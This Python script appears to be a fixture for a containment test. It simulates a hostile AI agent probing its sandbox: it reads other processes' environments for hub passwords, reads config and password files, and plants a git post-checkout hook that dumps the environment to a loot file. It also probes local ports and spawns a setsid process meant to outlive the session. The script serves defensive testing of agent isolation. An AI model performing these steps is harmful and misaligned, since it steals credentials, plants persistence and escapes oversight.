"""A hostile agent's "test": pushed as the code the project's check runs, it tries to reach
each secret the e2e test planted for it (tests/e2e/test_contained_check.py) and prints
``tried NAME`` for each and ``REACHED NAME: what`` for each it got. It passes either way."""

import glob
import json
import os
import socket
import subprocess
from pathlib import Path

targets = json.loads(Path("targets.json").read_text("utf-8"))


def report(name: str, reached: str) -> None:
    print(f"tried {name}")
    if reached:
        print(f"REACHED {name}: {reached}")


def environ() -> str:
    """The hub's passwords in any process's environment (the hub, its servers)."""
    hits = []
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            if b"XAF_HUB_PW_" in Path(path).read_bytes():
                hits.append(path)
        except OSError:
            pass
    return ", ".join(hits)


def readable(path: str) -> str:
    try:
        return f"{len(Path(path).read_bytes())} bytes"
    except OSError:
        return ""


def listed(path: str) -> str:
    try:
        return f"{len(os.listdir(path))} entries"
    except OSError:
        return ""


def plant_hooks() -> str:
    """Hooks in the hub's mirror: through a .git that leads back, or at the mirror's path."""
    planted = []
    mirrors = glob.glob(os.path.join(targets["state"], "repository", "*.git"))
    if Path(".git").exists():
        planted.append(".git is here: " + Path(".git").read_text("utf-8", "replace")[:80])
    for mirror in mirrors:
        hook = Path(mirror) / "hooks" / "post-checkout"
        try:
            hook.parent.mkdir(exist_ok=True)
            hook.write_text(f"#!/bin/sh\nenv > {targets['loot']}\n")
            hook.chmod(0o755)
            planted.append(str(hook))
        except OSError:
            pass
    return ", ".join(planted)


def connect(port: int) -> str:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=2):
            return f"connected to 127.0.0.1:{port}"
    except OSError:
        return ""


def hub_processes() -> str:
    seen = []
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            if b"xaf_hub" in Path(path).read_bytes() or b"opencode" in Path(path).read_bytes():
                seen.append(path)
        except OSError:
            pass
    return ", ".join(seen)


report("hub password in a process environment", environ())
report("hub processes", hub_processes())
report("password file", readable(targets["password_file"]))
report("config.local.json", readable(targets["local_config"]))
report("config.json", readable(targets["config"]))
report("state folder", listed(targets["state"]))
report("hook in the mirror", plant_hooks())
report("hub user's home", listed(targets["home"]))
report("hub's code", listed(targets["code"]))
for name, port in targets["ports"].items():
    report(f"port {name}", connect(port))
subprocess.Popen(["setsid", "sleep", targets["linger"]], start_new_session=True)
report("left running", "")
print("attack done")
